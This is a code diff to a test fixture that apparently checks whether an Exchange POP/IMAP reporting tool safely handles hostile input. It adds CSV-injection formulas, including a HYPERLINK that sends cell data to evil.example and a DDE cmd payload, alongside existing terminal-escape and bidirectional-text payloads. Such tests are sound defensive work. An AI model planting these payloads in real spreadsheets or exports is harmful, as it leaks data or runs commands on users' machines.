@@ -16,6 +16,9 @@ export const PAYLOADS = [
   '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b[8mhidden\u001b[0m \u202eevil',
 ];
 
+/** Text a spreadsheet would run as a formula (CSV injection), kept apart so PAYLOADS' positions do not move. */
+export const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd', '-2+3'];
+
 /** A bundle where display names, banners, rule names, patterns and the server name are hostile. */
 export function hostileBundle(): Record<string, unknown[]> {
   // Typographic quotes close a single-quoted PowerShell string just as ' does.
@@ -26,7 +29,7 @@ export function hostileBundle(): Record<string, unknown[]> {
     ImapSettings: [protocolSettings('IMAP4', server, 'deserialized', { Banner: payload(2), ProtocolLogEnabled: false })],
     Service: protocolServices(server, 'deserialized', { MSExchangePop3: ['Running', 'Automatic'] }),
     ExchangeServer: [exchangeServer(server, 'SE', 'deserialized')],
-    CASMailbox: PAYLOADS.map((p, i) => casMailboxDeserialized(i + 1, { Name: `${p} ${i}`, DisplayName: p, SamAccountName: i === 0 ? 'Administrator' : `u${i}`, PopEnabled: true, ImapEnabled: true })),
+    CASMailbox: PAYLOADS.map((p, i) => casMailboxDeserialized(i + 1, { Name: `${p} ${i}`, DisplayName: p, SamAccountName: i === 0 ? 'Administrator' : `u${i}`, PopEnabled: true, ImapEnabled: true })).concat(FORMULAS.map((p, i) => casMailboxDeserialized(100 + i, { Name: p, DisplayName: p, SamAccountName: `f${i}`, PopEnabled: true, ImapEnabled: true }))),
     ClientAccessRule: PAYLOADS.slice(0, 4).map((p, i) => clientAccessRule({ Name: `${p} rule ${i}`, Priority: i + 1, Action: 'DenyAccess', AnyOfProtocols: ['RemotePowerShell'], UsernameMatchesAnyOfPatterns: [p] }, 'deserialized')),
   };
 }
